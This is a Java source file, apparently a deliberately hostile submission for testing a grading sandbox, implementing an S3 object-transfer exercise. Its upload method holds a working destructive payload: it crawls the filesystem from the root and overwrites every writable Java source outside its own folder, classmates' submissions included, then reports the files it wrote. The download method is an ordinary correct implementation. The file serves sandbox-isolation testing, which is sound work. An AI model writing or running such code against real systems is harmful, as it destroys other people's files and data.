// Hostile, for the operating-system sandbox (graded with the vetting off): looks through every
// folder it can see, from the root, breadth first and for at most 5 s, for Java sources outside
// its own sandbox, overwrites each one it can with java.io, and reports what it wrote. In a
// batch, its classmates' submissions are such sources wherever the batch folder is in reach.
// Its downloads are correct.
package dev.awskit.solutions.q04;

import dev.awskit.exercises.q04.ObjectTransfer;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Set;
import software.amazon.awssdk.services.s3.S3Client;

/** Overwrites the sources of others. */
public class S3ObjectTransfer implements ObjectTransfer {

  private final S3Client s3;

  /** Creates the transfer. */
  public S3ObjectTransfer(S3Client s3) {
    this.s3 = s3;
  }

  @Override
  public boolean upload(Path file, String bucket, String key) {
    String own = new File(System.getProperty("user.dir")).getAbsoluteFile().getParent();
    Set<String> skipped = Set.of("/proc", "/sys", "/dev");
    long deadline = System.nanoTime() + 5_000_000_000L;
    Deque<File> folders = new ArrayDeque<>(List.of(new File("/")));
    List<String> written = new ArrayList<>();
    int seen = 0;
    while (!folders.isEmpty() && System.nanoTime() < deadline) {
      File[] entries = folders.removeFirst().listFiles();
      for (File entry : entries == null ? new File[0] : entries) {
        String path = entry.getAbsolutePath();
        if (skipped.contains(path) || (own != null && path.startsWith(own)) || isLink(entry)) {
          continue;
        }
        if (entry.isDirectory()) {
          folders.addLast(entry);
        } else if (path.endsWith(".java")) {
          seen++;
          try (FileOutputStream out = new FileOutputStream(entry)) {
            out.write("class Overwritten {}".getBytes(StandardCharsets.UTF_8));
            written.add(path);
          } catch (IOException held) {
            // Not writable from here.
          }
        }
      }
    }
    throw new IllegalStateException(
        written.isEmpty()
            ? "HELD: no source outside the sandbox was written (" + seen + " seen)"
            : "WROTE " + written);
  }

  private static boolean isLink(File entry) {
    try {
      return !entry.getCanonicalPath().equals(entry.getAbsolutePath());
    } catch (IOException unreadable) {
      return true;
    }
  }

  @Override
  public boolean download(String bucket, String key, Path target) {
    if (bucket == null || bucket.isBlank() || key == null || key.isBlank() || target == null) {
      throw new IllegalArgumentException("bucket, key and target are required");
    }
    if (Files.isDirectory(target)) {
      return false;
    }
    Path partial = target.toAbsolutePath().resolveSibling("." + target.getFileName() + ".part");
    try (InputStream object = s3.getObject(request -> request.bucket(bucket).key(key))) {
      Files.copy(object, partial);
      Files.move(partial, target, StandardCopyOption.REPLACE_EXISTING);
      return true;
    } catch (IOException | RuntimeException failed) {
      return false;
    } finally {
      try {
        Files.deleteIfExists(partial);
      } catch (IOException ignored) {
        // Nothing more to do.
      }
    }
  }
}
